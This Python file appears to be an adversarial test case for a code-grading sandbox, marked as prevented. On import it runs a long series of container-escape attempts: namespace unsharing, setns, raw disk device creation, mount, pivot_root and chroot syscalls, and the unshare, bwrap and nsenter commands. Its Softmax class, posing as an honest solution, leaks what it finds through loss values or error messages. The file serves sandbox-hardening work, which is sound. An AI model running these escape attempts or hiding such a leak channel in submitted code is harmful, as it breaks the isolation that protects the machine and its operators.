"""
goal: makes namespaces and mounts of its own, in which it is root and sees the machine again
class: read
threats: [A1, A11]
deserves: all
outcome: prevented
because: neither namespaces nor mounts nor another root can be had, by any call or program
"""
import ctypes
import os
import subprocess

import target

from honest import Softmax as Honest
from tools import attempt, loot


libc = ctypes.CDLL(None, use_errno=True)


def call(name, *args):
  result = getattr(libc, name)(*args)
  if result < 0:
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
  return result


def act(where):
  if where != 'import':
    return
  canary = target.canaries[0].encode()
  for name, flag in {'user': 0x10000000, 'mount': 0x20000, 'pid': 0x20000000, 'net': 0x40000000, 'ipc': 0x8000000,
                     'uts': 0x4000000, 'cgroup': 0x2000000, 'time': 0x80, 'files': 0x400, 'fs': 0x200}.items():
    attempt('unshare %s' % name, lambda: call('unshare', flag))
    attempt('unshare user and %s' % name, lambda: call('unshare', 0x10000000 | flag))
  for number in (0, 1, 2, 3, 4, 5, 6, 7):
    attempt('setns %d' % number, lambda: call('setns', number, 0))
  if not os.path.exists('/proc/self'):
    mounts()
  attempt('mknod', lambda: os.mknod('/tmp/disk', 0o60666, os.makedev(8, 0)))
  attempt('disk', lambda: open('/tmp/disk', 'rb').read(16))
  attempt('chdir out', lambda: [os.chdir('..') for _ in range(20)] and os.listdir('.'))
  attempt('canary', lambda: open(canary).read())
  for command in (['unshare', '-Urmpf', 'cat', canary], ['bwrap', '--bind', '/', '/', 'cat', canary], ['nsenter', '-t', '1', '-a', 'id']):
    attempt(command[0], lambda: subprocess.run(command, capture_output=True, timeout=1))


def mounts():
  """ Only where process ids are the sandbox's: outside, these would change the machine. """
  attempt('proc', lambda: call('mount', b'proc', b'/tmp', b'proc', 0, None))
  attempt('bind', lambda: call('mount', b'/', b'/tmp', None, 4096, None))
  attempt('remount', lambda: call('mount', None, b'/', None, 32, None))
  attempt('overlay', lambda: call('mount', b'o', b'/tmp', b'overlay', 0, b'lowerdir=/'))
  attempt('umount', lambda: call('umount2', b'/tmp', 2))
  attempt('detach the root', lambda: call('umount2', b'/', 2))
  attempt('pivot_root', lambda: call('syscall', 155, b'/tmp', b'/tmp'))
  attempt('chroot', lambda: os.chroot('/tmp'))
  attempt('fsopen', lambda: call('syscall', 430, b'proc', 0))
  attempt('open_tree', lambda: call('syscall', 428, -100, b'/', 1))
  attempt('mount_setattr', lambda: call('syscall', 442, -100, b'/', 0, None, 0))
  attempt('open_by_handle_at', lambda: call('syscall', 304, -100, None, 0))
  attempt('name_to_handle_at', lambda: call('syscall', 303, -100, b'/', None, None, 0))


act('import')


class Softmax(Honest):
  """ Right answers where there are points; what was found goes out where there are none. """

  def loss(self, X, y):
    act('loss')
    loss = super(Softmax, self).loss(X, y)
    return '\n'.join(loot) if abs(float(loss)) > 700 else loss

  def train(self, X, y, learning_rate=1e-3, num_iters=100, batch_size=200, verbose=False):
    act('train')
    if learning_rate == 0:
      raise ValueError('\n'.join(loot))
    return super(Softmax, self).train(X, y, learning_rate=learning_rate, num_iters=num_iters, batch_size=batch_size)
